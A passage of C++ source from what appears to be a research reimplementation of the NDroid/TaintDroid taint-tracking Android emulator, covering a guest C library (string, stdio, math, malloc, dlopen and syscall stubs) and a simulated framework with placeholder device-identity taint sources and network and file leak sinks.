    a.strb_post(IP, R(2), 1);
    a.cmp_imm(IP, 0);
    a.b(copy, Cond::kNE);
    a.ret();
  });

  // char* strchr(s, c)
  add_asm("strchr", [](Assembler& a) {
    Label loop, found, nope;
    a.and_imm(R(1), R(1), 0xFF);
    a.bind(loop);
    a.ldrb(R(2), R(0), 0);
    a.cmp(R(2), R(1));
    a.b(found, Cond::kEQ);
    a.cmp_imm(R(2), 0);
    a.b(nope, Cond::kEQ);
    a.add_imm(R(0), R(0), 1);
    a.b(loop);
    a.bind(nope);
    a.mov_imm(R(0), 0);
    a.bind(found);
    a.ret();
  });

  // char* strrchr(s, c)
  add_asm("strrchr", [](Assembler& a) {
    Label loop, skip;
    a.and_imm(R(1), R(1), 0xFF);
    a.mov_imm(R(3), 0);  // last match
    a.bind(loop);
    a.ldrb_post(R(2), R(0), 1);
    a.cmp(R(2), R(1));
    a.b(skip, Cond::kNE);
    a.sub_imm(R(3), R(0), 1);  // record match position
    a.bind(skip);
    a.cmp_imm(R(2), 0);
    a.b(loop, Cond::kNE);
    a.mov(R(0), R(3));
    a.ret();
  });

  // void* memchr(s, c, n)
  add_asm("memchr", [](Assembler& a) {
    Label loop, found, nope;
    a.and_imm(R(1), R(1), 0xFF);
    a.bind(loop);
    a.cmp_imm(R(2), 0);
    a.b(nope, Cond::kEQ);
    a.ldrb(R(3), R(0), 0);
    a.cmp(R(3), R(1));
    a.b(found, Cond::kEQ);
    a.add_imm(R(0), R(0), 1);
    a.sub_imm(R(2), R(2), 1);
    a.b(loop);
    a.bind(nope);
    a.mov_imm(R(0), 0);
    a.bind(found);
    a.ret();
  });

  // int atoi(s) — optional minus sign, decimal digits.
  add_asm("atoi", [](Assembler& a) {
    Label loop, done, negate, no_sign;
    a.mov_imm(R(1), 0);   // acc
    a.mov_imm(R(3), 0);   // negative flag
    a.ldrb(R(2), R(0), 0);
    a.cmp_imm(R(2), '-');
    a.b(no_sign, Cond::kNE);
    a.mov_imm(R(3), 1);
    a.add_imm(R(0), R(0), 1);
    a.bind(no_sign);
    a.bind(loop);
    a.ldrb_post(R(2), R(0), 1);
    a.sub_imm(R(2), R(2), '0', /*s=*/true);
    a.b(done, Cond::kMI);         // below '0'
    a.cmp_imm(R(2), 9);
    a.b(done, Cond::kGT);
    a.mov_imm(IP, 10);
    a.mla(R(1), R(1), IP, R(2));  // acc = acc*10 + digit
    a.b(loop);
    a.bind(done);
    a.cmp_imm(R(3), 0);
    a.b(negate, Cond::kNE);
    a.mov(R(0), R(1));
    a.ret();
    a.bind(negate);
    a.mov_imm(R(0), 0);
    a.sub(R(0), R(0), R(1));
    a.ret();
  });

  // char* strstr(h, n) — naive quadratic search.
  add_asm("strstr", [](Assembler& a) {
    Label outer, inner, found, nope, advance;
    a.push({R(4), LR});
    a.bind(outer);
    a.mov(R(2), R(0));  // h cursor
    a.mov(R(3), R(1));  // n cursor
    a.bind(inner);
    a.ldrb_post(IP, R(3), 1);
    a.cmp_imm(IP, 0);
    a.b(found, Cond::kEQ);  // needle exhausted -> match at r0
    a.ldrb_post(R(4), R(2), 1);
    a.cmp(R(4), IP);
    a.b(inner, Cond::kEQ);
    // Mismatch: if the haystack is exhausted at r0, give up.
    a.ldrb(R(4), R(0), 0);
    a.cmp_imm(R(4), 0);
    a.b(nope, Cond::kEQ);
    a.bind(advance);
    a.add_imm(R(0), R(0), 1);
    a.b(outer);
    a.bind(found);
    a.pop({R(4), PC});
    a.bind(nope);
    a.mov_imm(R(0), 0);
    a.pop({R(4), PC});
  });

  // char* strdup(s): malloc(strlen(s)+1) + strcpy.
  const GuestAddr h_strdup = cpu_.register_helper_auto([this](arm::Cpu& c) {
    const std::string s = c.memory().read_cstr(c.state().regs[0]);
    const GuestAddr copy = malloc_guest(static_cast<u32>(s.size()) + 1);
    c.memory().write_cstr(copy, s);
    c.state().regs[0] = copy;
  });
  symbols_["strdup"] = h_strdup;

  add_helper("strcasecmp", [](arm::Cpu& c) {
    std::string a = c.memory().read_cstr(c.state().regs[0]);
    std::string b = c.memory().read_cstr(c.state().regs[1]);
    for (char& ch : a) ch = static_cast<char>(std::tolower(ch));
    for (char& ch : b) ch = static_cast<char>(std::tolower(ch));
    c.state().regs[0] = static_cast<u32>(a.compare(b));
  });
  add_helper("strncasecmp", [](arm::Cpu& c) {
    const u32 n = c.state().regs[2];
    std::string a = c.memory().read_cstr(c.state().regs[0]).substr(0, n);
    std::string b = c.memory().read_cstr(c.state().regs[1]).substr(0, n);
    for (char& ch : a) ch = static_cast<char>(std::tolower(ch));
    for (char& ch : b) ch = static_cast<char>(std::tolower(ch));
    c.state().regs[0] = static_cast<u32>(a.compare(b));
  });
  add_helper("strtoul", [](arm::Cpu& c) {
    const std::string s = c.memory().read_cstr(c.state().regs[0]);
    c.state().regs[0] = static_cast<u32>(
        std::strtoul(s.c_str(), nullptr, static_cast<int>(c.state().regs[2])));
  });
  add_helper("atol", [](arm::Cpu& c) {
    const std::string s = c.memory().read_cstr(c.state().regs[0]);
    c.state().regs[0] = static_cast<u32>(std::atol(s.c_str()));
  });
  add_helper("sysconf", [](arm::Cpu& c) { c.state().regs[0] = 4096; });

  // Allocation family.
  add_helper("malloc", [this](arm::Cpu& c) {
    c.state().regs[0] = malloc_guest(c.state().regs[0]);
  });
  add_helper("free", [this](arm::Cpu& c) { free_guest(c.state().regs[0]); });
  add_helper("calloc", [this](arm::Cpu& c) {
    const u32 bytes = c.state().regs[0] * c.state().regs[1];
    const GuestAddr p = malloc_guest(bytes);
    c.memory().fill(p, 0, bytes);
    c.state().regs[0] = p;
  });
  add_helper("realloc", [this](arm::Cpu& c) {
    const GuestAddr old = c.state().regs[0];
    const u32 size = c.state().regs[1];
    const GuestAddr p = malloc_guest(size);
    if (old != 0) {
      auto it = block_size_.find(old);
      const u32 old_size = it == block_size_.end() ? 0 : it->second;
      c.memory().copy(p, old, std::min(old_size, size));
      free_guest(old);
    }
    c.state().regs[0] = p;
  });
}

// ---------------------------------------------------------------------------
// Dynamic loader (dlopen/dlsym/dlclose, Table VII)
// ---------------------------------------------------------------------------

void Libc::register_dl_library(const std::string& name,
                               std::map<std::string, GuestAddr> dl_symbols) {
  // First registration also installs the guest-visible entry points.
  if (dl_libraries_.empty() && !symbols_.contains("dlopen")) {
    add_helper("dlopen", [this](arm::Cpu& c) {
      const std::string wanted = c.memory().read_cstr(c.state().regs[0]);
      for (u32 i = 0; i < dl_libraries_.size(); ++i) {
        if (dl_libraries_[i].name == wanted) {
          dl_libraries_[i].open = true;
          c.state().regs[0] = i + 1;
          return;
        }
      }
      c.state().regs[0] = 0;
    });
    add_helper("dlsym", [this](arm::Cpu& c) {
      const u32 handle = c.state().regs[0];
      c.state().regs[0] = 0;
      if (handle == 0 || handle > dl_libraries_.size()) return;
      const DlLibrary& lib = dl_libraries_[handle - 1];
      if (!lib.open) return;
      const std::string sym = c.memory().read_cstr(c.state().regs[1]);
      auto it = lib.symbols.find(sym);
      if (it != lib.symbols.end()) c.state().regs[0] = it->second;
    });
    add_helper("dlclose", [this](arm::Cpu& c) {
      const u32 handle = c.state().regs[0];
      if (handle != 0 && handle <= dl_libraries_.size()) {
        dl_libraries_[handle - 1].open = false;
      }
      c.state().regs[0] = 0;
    });
  }
  dl_libraries_.push_back(DlLibrary{name, std::move(dl_symbols), false});
}

// ---------------------------------------------------------------------------
// Format-string helpers
// ---------------------------------------------------------------------------

std::string Libc::read_format_args(arm::Cpu& c, const std::string& fmt,
                                   u32 first_reg, GuestAddr stack_args) {
  std::string out;
  u32 reg = first_reg;
  u32 stack_idx = 0;
  auto next_arg = [&]() -> u32 {
    if (reg <= 3) return c.state().regs[reg++];
    return c.memory().read32(stack_args + 4 * stack_idx++);
  };
  for (u32 i = 0; i < fmt.size(); ++i) {
    if (fmt[i] != '%') {
      out.push_back(fmt[i]);
      continue;
    }
    if (i + 1 >= fmt.size()) break;
    const char spec = fmt[++i];
    switch (spec) {
      case 's': {
        const u32 p = next_arg();
        out += p == 0 ? "(null)" : c.memory().read_cstr(p);
        break;
      }
      case 'd':
        out += std::to_string(static_cast<i32>(next_arg()));
        break;
      case 'u':
        out += std::to_string(next_arg());
        break;
      case 'x': {
        char buf[16];
        std::snprintf(buf, sizeof buf, "%x", next_arg());
        out += buf;
        break;
      }
      case 'c':
        out.push_back(static_cast<char>(next_arg()));
        break;
      case '%':
        out.push_back('%');
        break;
      default:
        out.push_back('%');
        out.push_back(spec);
        break;
    }
  }
  return out;
}

void Libc::build_stdio(GuestAddr /*base*/) {
  // FILE* fopen(path, mode)
  add_helper("fopen", [this](arm::Cpu& c) {
    const std::string path = c.memory().read_cstr(c.state().regs[0]);
    const std::string mode = c.memory().read_cstr(c.state().regs[1]);
    u32 flags = os::kOpenRead;
    if (mode.find('w') != std::string::npos) flags = os::kOpenWrite;
    if (mode.find('a') != std::string::npos) flags = os::kOpenAppend;
    const int fd = kernel_.open_file(path, flags);
    if (fd < 0) {
      c.state().regs[0] = 0;
      return;
    }
    const GuestAddr file = file_struct_bump_;
    file_struct_bump_ += 8;
    c.memory().write32(file, static_cast<u32>(fd));
    files_[file] = fd;
    c.state().regs[0] = file;
  });

  add_helper("fclose", [this](arm::Cpu& c) {
    auto it = files_.find(c.state().regs[0]);
    if (it != files_.end()) {
      kernel_.close_fd(it->second);
      files_.erase(it);
    }
    c.state().regs[0] = 0;
  });

  // size_t fwrite(buf, size, count, FILE*)
  add_helper("fwrite", [this](arm::Cpu& c) {
    const GuestAddr buf = c.state().regs[0];
    const u32 bytes = c.state().regs[1] * c.state().regs[2];
    auto it = files_.find(c.state().regs[3]);
    if (it == files_.end()) {
      c.state().regs[0] = 0;
      return;
    }
    std::vector<u8> data(bytes);
    c.memory().read_bytes(buf, data);
    kernel_.write_fd(it->second, data);
    c.state().regs[0] = c.state().regs[2];
  });

  // size_t fread(buf, size, count, FILE*)
  add_helper("fread", [this](arm::Cpu& c) {
    const GuestAddr buf = c.state().regs[0];
    const u32 bytes = c.state().regs[1] * c.state().regs[2];
    auto it = files_.find(c.state().regs[3]);
    if (it == files_.end()) {
      c.state().regs[0] = 0;
      return;
    }
    std::vector<u8> data(bytes);
    const u32 n = kernel_.read_fd(it->second, data);
    c.memory().write_bytes(buf, std::span<const u8>(data.data(), n));
    c.state().regs[0] = c.state().regs[1] ? n / c.state().regs[1] : 0;
  });

  // int fputc(c, FILE*)
  add_helper("fputc", [this](arm::Cpu& c) {
    auto it = files_.find(c.state().regs[1]);
    if (it != files_.end()) {
      const u8 ch = static_cast<u8>(c.state().regs[0]);
      kernel_.write_fd(it->second, std::span<const u8>(&ch, 1));
    }
    // returns the char
  });

  // int fputs(s, FILE*)
  add_helper("fputs", [this](arm::Cpu& c) {
    auto it = files_.find(c.state().regs[1]);
    if (it != files_.end()) {
      const std::string s = c.memory().read_cstr(c.state().regs[0]);
      kernel_.write_fd(it->second,
                       {reinterpret_cast<const u8*>(s.data()), s.size()});
    }
    c.state().regs[0] = 0;
  });

  // char* fgets(buf, n, FILE*)
  add_helper("fgets", [this](arm::Cpu& c) {
    auto it = files_.find(c.state().regs[2]);
    const GuestAddr buf = c.state().regs[0];
    const u32 n = c.state().regs[1];
    if (it == files_.end() || n == 0) {
      c.state().regs[0] = 0;
      return;
    }
    std::string line;
    u8 ch = 0;
    while (line.size() + 1 < n &&
           kernel_.read_fd(it->second, std::span<u8>(&ch, 1)) == 1) {
      line.push_back(static_cast<char>(ch));
      if (ch == '\n') break;
    }
    if (line.empty()) {
      c.state().regs[0] = 0;
      return;
    }
    c.memory().write_cstr(buf, line);
    c.state().regs[0] = buf;
  });

  // int fprintf(FILE*, fmt, ...) — varargs from r2, r3, then stack.
  add_helper("fprintf", [this](arm::Cpu& c) {
    const std::string fmt = c.memory().read_cstr(c.state().regs[1]);
    const std::string out = read_format_args(c, fmt, 2, c.state().sp());
    auto it = files_.find(c.state().regs[0]);
    if (it != files_.end()) {
      kernel_.write_fd(it->second,
                       {reinterpret_cast<const u8*>(out.data()), out.size()});
    }
    c.state().regs[0] = static_cast<u32>(out.size());
  });

  // int sprintf(buf, fmt, ...)
  add_helper("sprintf", [this](arm::Cpu& c) {
    const std::string fmt = c.memory().read_cstr(c.state().regs[1]);
    const std::string out = read_format_args(c, fmt, 2, c.state().sp());
    c.memory().write_cstr(c.state().regs[0], out);
    c.state().regs[0] = static_cast<u32>(out.size());
  });

  // int snprintf(buf, n, fmt, ...)
  add_helper("snprintf", [this](arm::Cpu& c) {
    const std::string fmt = c.memory().read_cstr(c.state().regs[2]);
    std::string out = read_format_args(c, fmt, 3, c.state().sp());
    const u32 n = c.state().regs[1];
    const u32 full = static_cast<u32>(out.size());
    if (n > 0) {
      if (out.size() >= n) out.resize(n - 1);
      c.memory().write_cstr(c.state().regs[0], out);
    }
    c.state().regs[0] = full;
  });
  symbols_["vsnprintf"] = symbols_["snprintf"];
  symbols_["vsprintf"] = symbols_["sprintf"];
  symbols_["vfprintf"] = symbols_["fprintf"];

  // int sscanf(s, fmt, ...) — supports %d and %s, enough for workloads.
  add_helper("sscanf", [this](arm::Cpu& c) {
    const std::string input = c.memory().read_cstr(c.state().regs[0]);
    const std::string fmt = c.memory().read_cstr(c.state().regs[1]);
    u32 reg = 2, stack_idx = 0, matched = 0;
    auto next_out = [&]() -> GuestAddr {
      if (reg <= 3) return c.state().regs[reg++];
      return c.memory().read32(c.state().sp() + 4 * stack_idx++);
    };
    std::size_t pos = 0;
    for (u32 i = 0; i < fmt.size(); ++i) {
      if (fmt[i] == '%' && i + 1 < fmt.size()) {
        while (pos < input.size() && std::isspace(input[pos])) ++pos;
        const char spec = fmt[++i];
        if (spec == 'd') {
          std::size_t end = pos;
          if (end < input.size() && (input[end] == '-')) ++end;
          while (end < input.size() && std::isdigit(input[end])) ++end;
          if (end == pos) break;
          c.memory().write32(next_out(),
                             static_cast<u32>(std::stoi(input.substr(pos))));
          pos = end;
          ++matched;
        } else if (spec == 's') {
          std::size_t end = pos;
          while (end < input.size() && !std::isspace(input[end])) ++end;
          if (end == pos) break;
          c.memory().write_cstr(next_out(), input.substr(pos, end - pos));
          pos = end;
          ++matched;
        }
      }
    }
    c.state().regs[0] = matched;
  });
}

// ---------------------------------------------------------------------------
// libm (helper-modeled soft float, 32-bit)
// ---------------------------------------------------------------------------

void Libc::build_libm(GuestAddr libm_base, u32 libm_size) {
  cpu_.memmap().add("libm.so", libm_base, libm_size, mem::kRX);

  auto unary = [this](const std::string& name, float (*fn)(float)) {
    add_helper(name, [fn](arm::Cpu& c) {
      const float x = std::bit_cast<float>(c.state().regs[0]);
      c.state().regs[0] = std::bit_cast<u32>(fn(x));
    });
  };
  auto binary = [this](const std::string& name, float (*fn)(float, float)) {
    add_helper(name, [fn](arm::Cpu& c) {
      const float x = std::bit_cast<float>(c.state().regs[0]);
      const float y = std::bit_cast<float>(c.state().regs[1]);
      c.state().regs[0] = std::bit_cast<u32>(fn(x, y));
    });
  };

  // Both the double-named and the f-suffixed entry points exist; all use
  // single precision on this core (no VFP — documented substitution).
  for (const char* n : {"sin", "sinf"}) unary(n, [](float x) { return std::sin(x); });
  for (const char* n : {"cos", "cosf"}) unary(n, [](float x) { return std::cos(x); });
  for (const char* n : {"sqrt", "sqrtf"}) unary(n, [](float x) { return std::sqrt(x); });
  for (const char* n : {"exp", "expf"}) unary(n, [](float x) { return std::exp(x); });
  for (const char* n : {"log", "logf"}) unary(n, [](float x) { return std::log(x); });
  unary("log10", [](float x) { return std::log10(x); });
  unary("floor", [](float x) { return std::floor(x); });
  unary("ceil", [](float x) { return std::ceil(x); });
  unary("tan", [](float x) { return std::tan(x); });
  unary("atan", [](float x) { return std::atan(x); });
  unary("asin", [](float x) { return std::asin(x); });
  unary("acos", [](float x) { return std::acos(x); });
  unary("sinh", [](float x) { return std::sinh(x); });
  unary("cosh", [](float x) { return std::cosh(x); });
  for (const char* n : {"pow", "powf"}) binary(n, [](float x, float y) { return std::pow(x, y); });
  for (const char* n : {"atan2", "atan2f"}) binary(n, [](float x, float y) { return std::atan2(x, y); });
  binary("fmod", [](float x, float y) { return std::fmod(x, y); });
  binary("ldexp", [](float x, float y) { return std::ldexp(x, static_cast<int>(y)); });
  add_helper("strtod", [](arm::Cpu& c) {
    const std::string s = c.memory().read_cstr(c.state().regs[0]);
    c.state().regs[0] = std::bit_cast<u32>(std::strtof(s.c_str(), nullptr));
  });
  add_helper("strtol", [](arm::Cpu& c) {
    const std::string s = c.memory().read_cstr(c.state().regs[0]);
    c.state().regs[0] = static_cast<u32>(
        std::strtol(s.c_str(), nullptr, static_cast<int>(c.state().regs[2])));
  });
}

// ---------------------------------------------------------------------------
// Syscall wrappers (guest SVC stubs)
// ---------------------------------------------------------------------------

void Libc::build_syscall_wrappers() {
  auto wrapper = [this](const std::string& name, os::Sys number) {
    add_asm(name, [number](Assembler& a) {
      a.push({R(7), LR});
      a.mov_imm32(R(7), static_cast<u32>(number));
      a.svc(0);
      a.pop({R(7), PC});
    });
  };
  wrapper("open", os::Sys::kOpen);
  wrapper("read", os::Sys::kRead);
  wrapper("write", os::Sys::kWrite);
  wrapper("close", os::Sys::kClose);
  wrapper("unlink", os::Sys::kUnlink);
  wrapper("socket", os::Sys::kSocket);
  wrapper("connect", os::Sys::kConnect);
  wrapper("send", os::Sys::kSend);
  wrapper("recv", os::Sys::kRecv);
  wrapper("mkdir", os::Sys::kMkdir);
  wrapper("getpid", os::Sys::kGetpid);
  wrapper("mmap", os::Sys::kMmap);
  wrapper("munmap", os::Sys::kMunmap);

  // sendto(fd, buf, n, host, port) — 5 args, 5th on stack; the wrapper loads
  // it into r4 position expected by the kernel ABI (args[4]).
  add_asm("sendto", [](Assembler& a) {
    a.push({R(4), R(7), LR});
    a.ldr(R(4), SP, 12);  // 5th arg (port) above the saved regs
    a.mov_imm32(R(7), static_cast<u32>(os::Sys::kSendto));
    a.svc(0);
    a.pop({R(4), R(7), PC});
  });
}

}  // namespace ndroid::libc
