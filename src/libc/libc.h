// The guest C library ("libc.so" / "libm.so").
//
// Two implementation classes, mirroring the paper's architecture:
//
//  * String/memory functions (memcpy, strcpy, strlen, ...) are REAL GUEST
//    ARM CODE assembled into libc.so. When NDroid's System Lib Hook Engine
//    models them (Table VI) it hooks the entry point and skips no code —
//    the functions still run — but the instruction tracer does not need to
//    follow their instructions one by one, which is where the speedup comes
//    from (§V-D). With models disabled (ablation / DroidScope-mode), the
//    tracer propagates taint through these loops instruction by instruction
//    and must reach the same answer.
//
//  * Format-string functions (sprintf/fprintf/...), stdio FILE* functions,
//    malloc/free, and all of libm are helper-backed: the paper models these
//    as well, and their bodies are irrelevant to the taint flows studied.
//    libm operates on 32-bit floats (the emulated core has no VFP; the
//    double-named entry points use single precision — documented
//    substitution).
//
// Syscall wrappers (open/read/write/close/socket/connect/send/sendto/recv)
// are guest stubs that trap via SVC, so Table VII's kernel-level sinks are
// observable as guest instructions.
#pragma once

#include <map>
#include <string>
#include <unordered_map>

#include "arm/assembler.h"
#include "arm/cpu.h"
#include "os/kernel.h"

namespace ndroid::libc {

class Libc {
 public:
  Libc(arm::Cpu& cpu, os::Kernel& kernel, GuestAddr libc_base, u32 libc_size,
       GuestAddr libm_base, u32 libm_size);

  Libc(const Libc&) = delete;
  Libc& operator=(const Libc&) = delete;

  /// Address of a libc/libm function by name.
  [[nodiscard]] GuestAddr fn(const std::string& name) const;
  [[nodiscard]] const std::map<std::string, GuestAddr>& symbols() const {
    return symbols_;
  }

  /// Host-side malloc into the guest native heap (used by JNI glue too).
  GuestAddr malloc_guest(u32 size);
  void free_guest(GuestAddr addr);

  [[nodiscard]] u64 mallocs_performed() const { return mallocs_; }

  /// Kernel fd behind a FILE* handle, or -1 (used by sink hooks to resolve
  /// fprintf/fwrite destinations).
  [[nodiscard]] int fd_of_file(GuestAddr file) const {
    auto it = files_.find(file);
    return it == files_.end() ? -1 : it->second;
  }

  /// Registers a library with the dynamic loader so guest dlopen/dlsym can
  /// resolve it (Table VII hooks dlopen/dlsym/dlclose; malware uses them to
  /// hide program logic in late-loaded libraries, paper §I/§III).
  void register_dl_library(const std::string& name,
                           std::map<std::string, GuestAddr> dl_symbols);

 private:
  void build_asm_string_functions(GuestAddr base, GuestAddr end);
  void build_stdio(GuestAddr base);
  void build_libm(GuestAddr libm_base, u32 libm_size);
  void build_syscall_wrappers();

  GuestAddr add_asm(const std::string& name,
                    const std::function<void(arm::Assembler&)>& body);
  GuestAddr add_helper(const std::string& name, arm::Helper helper);

  std::string read_format_args(arm::Cpu& c, const std::string& fmt,
                               u32 first_reg, GuestAddr stack_args);

  arm::Cpu& cpu_;
  os::Kernel& kernel_;
  std::map<std::string, GuestAddr> symbols_;
  GuestAddr code_bump_ = 0;
  GuestAddr code_end_ = 0;

  // malloc bookkeeping: guest address -> block size; simple size-bucketed
  // free lists over kernel-mmapped arenas.
  std::unordered_map<GuestAddr, u32> block_size_;
  std::unordered_map<u32, std::vector<GuestAddr>> free_lists_;
  u64 mallocs_ = 0;

  // FILE* handles: guest struct of one word holding fd + host map.
  std::unordered_map<GuestAddr, int> files_;
  GuestAddr file_struct_bump_ = 0;

  // Dynamic loader registry: handle (index+1) -> {name, symbols, open}.
  struct DlLibrary {
    std::string name;
    std::map<std::string, GuestAddr> symbols;
    bool open = false;
  };
  std::vector<DlLibrary> dl_libraries_;
};

}  // namespace ndroid::libc
