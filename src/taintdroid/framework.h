// The Android application framework slice TaintDroid instruments:
// taint sources (telephony, contacts, SMS, location) and taint sinks
// (network output, file output) exposed to apps as framework classes with
// built-in methods.
//
// Sources return freshly allocated String objects carrying both an
// object-level taint label and a reference taint — TaintDroid's behaviour
// after its framework instrumentation (paper §II-B: "TaintDroid adds taints
// to the sources of sensitive information (GPS data, SMS messages, IMSI,
// IMEI, etc.)").
//
// Sinks perform the real I/O through the kernel (so packets/files exist as
// ground truth regardless of tainting) and additionally record a LeakReport
// when TaintDroid's Java-context taint reaches them — this is TaintDroid's
// detection verdict, compared against NDroid's in the Table I experiment.
#pragma once

#include <string>
#include <vector>

#include "common/taint_tags.h"
#include "dvm/dvm.h"
#include "os/kernel.h"

namespace ndroid::taintdroid {

struct LeakReport {
  std::string sink;         // e.g. "OutputStream.write", "send"
  std::string destination;  // host name or file path
  Taint taint = kTaintClear;
  std::string data;
};

/// Values the simulated device reports from its identity sources (defaults
/// follow the strings visible in the paper's logs, Figs. 7-9).
struct DeviceIdentity {
  std::string imei = "354958031234567";
  std::string imsi = "310260000000000";
  std::string line1_number = "15555215554";
  std::string network_operator = "310260";
  std::string sim_serial = "89014103211118510720";
  std::string contacts = "1|Vincent|cx@gg.com";
  std::string sms = "sms:1:hello from vincent";
  std::string location = "22.3364,114.2655";
};

class Framework {
 public:
  Framework(dvm::Dvm& dvm, os::Kernel& kernel,
            DeviceIdentity identity = {});

  Framework(const Framework&) = delete;
  Framework& operator=(const Framework&) = delete;

  [[nodiscard]] const DeviceIdentity& identity() const { return identity_; }

  /// Leaks TaintDroid's Java-context sinks flagged.
  [[nodiscard]] const std::vector<LeakReport>& leaks() const { return leaks_; }
  void clear_leaks() { leaks_.clear(); }

  // Framework classes (also discoverable via dvm.find_class).
  dvm::ClassObject* telephony = nullptr;   // Landroid/telephony/TelephonyManager;
  dvm::ClassObject* sms_manager = nullptr; // Landroid/telephony/SmsManager;
  dvm::ClassObject* contacts = nullptr;    // Landroid/provider/ContactsContract;
  dvm::ClassObject* location = nullptr;    // Landroid/location/LocationManager;
  dvm::ClassObject* network = nullptr;     // Ljava/net/NetworkOutput;
  dvm::ClassObject* file_output = nullptr; // Ljava/io/FileOutput;
  dvm::ClassObject* string_ops = nullptr;  // Ljava/lang/StringOps;

 private:
  void define_sources();
  void define_sinks();
  void define_string_ops();

  dvm::Slot make_source_string(const std::string& value, Taint taint);
  /// Combined TaintDroid-visible taint of a string argument: reference slot
  /// taint OR the object-level label.
  Taint visible_taint(const dvm::Slot& slot);

  dvm::Dvm& dvm_;
  os::Kernel& kernel_;
  DeviceIdentity identity_;
  std::vector<LeakReport> leaks_;
};

}  // namespace ndroid::taintdroid
