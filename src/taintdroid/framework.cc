#include "taintdroid/framework.h"

namespace ndroid::taintdroid {

using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Slot;

Framework::Framework(dvm::Dvm& dvm, os::Kernel& kernel,
                     DeviceIdentity identity)
    : dvm_(dvm), kernel_(kernel), identity_(std::move(identity)) {
  define_sources();
  define_sinks();
  define_string_ops();
}

Slot Framework::make_source_string(const std::string& value, Taint taint) {
  dvm::Object* s = dvm_.new_string(value);
  dvm_.heap().set_object_taint(*s, taint);
  return Slot{s->addr(), taint};
}

Taint Framework::visible_taint(const Slot& slot) {
  Taint t = slot.taint;
  if (dvm::Object* obj = dvm_.heap().object_at(slot.value)) {
    t |= dvm_.heap().object_taint(*obj);
  }
  return t;
}

void Framework::define_sources() {
  telephony = dvm_.define_class("Landroid/telephony/TelephonyManager;");
  auto src = [this](dvm::ClassObject* cls, const char* name,
                    std::string DeviceIdentity::* field, Taint taint) {
    dvm_.define_builtin(cls, name, "L", kAccPublic | kAccStatic,
                        [this, field, taint](dvm::Dvm&, std::vector<Slot>&) {
                          return make_source_string(identity_.*field, taint);
                        });
  };
  src(telephony, "getDeviceId", &DeviceIdentity::imei, kTaintImei);
  src(telephony, "getSubscriberId", &DeviceIdentity::imsi, kTaintImsi);
  src(telephony, "getLine1Number", &DeviceIdentity::line1_number,
      kTaintPhoneNumber);
  src(telephony, "getNetworkOperator", &DeviceIdentity::network_operator,
      kTaintImsi);
  src(telephony, "getSimSerialNumber", &DeviceIdentity::sim_serial,
      kTaintIccid);

  sms_manager = dvm_.define_class("Landroid/telephony/SmsManager;");
  src(sms_manager, "getAllMessages", &DeviceIdentity::sms, kTaintSms);

  contacts = dvm_.define_class("Landroid/provider/ContactsContract;");
  src(contacts, "queryContacts", &DeviceIdentity::contacts, kTaintContacts);
  // Individual contact columns, as queried by the PoC of case 2 (Fig. 8).
  auto literal_src = [this](dvm::ClassObject* cls, const char* name,
                            std::string value, Taint taint) {
    dvm_.define_builtin(cls, name, "L", kAccPublic | kAccStatic,
                        [this, value, taint](dvm::Dvm&, std::vector<Slot>&) {
                          return make_source_string(value, taint);
                        });
  };
  literal_src(contacts, "getContactId", "1", kTaintContacts);
  literal_src(contacts, "getContactName", "Vincent", kTaintContacts);
  literal_src(contacts, "getContactEmail", "cx@gg.com", kTaintContacts);

  location = dvm_.define_class("Landroid/location/LocationManager;");
  src(location, "getLastKnownLocation", &DeviceIdentity::location,
      kTaintLocation | kTaintLocationGps);
}

void Framework::define_sinks() {
  // NetworkOutput.send(host, data): opens a socket, sends `data`, and lets
  // TaintDroid check the argument taints (its Java-context sink).
  network = dvm_.define_class("Ljava/net/NetworkOutput;");
  dvm_.define_builtin(
      network, "send", "VLL", kAccPublic | kAccStatic,
      [this](dvm::Dvm& dvm, std::vector<Slot>& args) {
        dvm::Object* host = dvm.heap().object_at(args[0].value);
        dvm::Object* data = dvm.heap().object_at(args[1].value);
        if (host == nullptr || data == nullptr) {
          throw GuestFault("NetworkOutput.send: null argument");
        }
        const std::string host_s = dvm.heap().read_string(*host);
        const std::string data_s = dvm.heap().read_string(*data);
        const int fd = kernel_.open_socket();
        const auto* entry = kernel_.fd_entry(fd);
        kernel_.network().connect(entry->socket_id, host_s, 80);
        kernel_.network().send(
            entry->socket_id,
            {reinterpret_cast<const u8*>(data_s.data()), data_s.size()});
        kernel_.close_fd(fd);
        if (dvm.policy().propagate_java) {
          const Taint t = visible_taint(args[1]);
          if (t != kTaintClear) {
            leaks_.push_back(
                LeakReport{"OutputStream.write", host_s, t, data_s});
          }
        }
        return Slot{};
      });

  // FileOutput.write(path, data): file sink.
  file_output = dvm_.define_class("Ljava/io/FileOutput;");
  dvm_.define_builtin(
      file_output, "write", "VLL", kAccPublic | kAccStatic,
      [this](dvm::Dvm& dvm, std::vector<Slot>& args) {
        dvm::Object* path = dvm.heap().object_at(args[0].value);
        dvm::Object* data = dvm.heap().object_at(args[1].value);
        if (path == nullptr || data == nullptr) {
          throw GuestFault("FileOutput.write: null argument");
        }
        const std::string path_s = dvm.heap().read_string(*path);
        const std::string data_s = dvm.heap().read_string(*data);
        kernel_.vfs().write_at(
            path_s, kernel_.vfs().size(path_s),
            {reinterpret_cast<const u8*>(data_s.data()), data_s.size()});
        if (dvm.policy().propagate_java) {
          const Taint t = visible_taint(args[1]);
          if (t != kTaintClear) {
            leaks_.push_back(
                LeakReport{"FileOutputStream.write", path_s, t, data_s});
          }
        }
        return Slot{};
      });
}

void Framework::define_string_ops() {
  string_ops = dvm_.define_class("Ljava/lang/StringOps;");

  // concat(a, b) -> new String; TaintDroid would propagate through
  // String.concat's DVM bytecode — modeled here with explicit taint union.
  dvm_.define_builtin(
      string_ops, "concat", "LLL", kAccPublic | kAccStatic,
      [this](dvm::Dvm& dvm, std::vector<Slot>& args) {
        dvm::Object* a = dvm.heap().object_at(args[0].value);
        dvm::Object* b = dvm.heap().object_at(args[1].value);
        if (a == nullptr || b == nullptr) {
          throw GuestFault("StringOps.concat: null argument");
        }
        const Taint t = visible_taint(args[0]) | visible_taint(args[1]);
        dvm::Object* out = dvm.new_string(dvm.heap().read_string(*a) +
                                          dvm.heap().read_string(*b));
        if (dvm.policy().propagate_java) {
          dvm.heap().set_object_taint(*out, t);
        }
        return Slot{out->addr(), dvm.policy().propagate_java ? t
                                                             : kTaintClear};
      });

  dvm_.define_builtin(string_ops, "length", "IL", kAccPublic | kAccStatic,
                      [this](dvm::Dvm& dvm, std::vector<Slot>& args) {
                        dvm::Object* s = dvm.heap().object_at(args[0].value);
                        if (s == nullptr) {
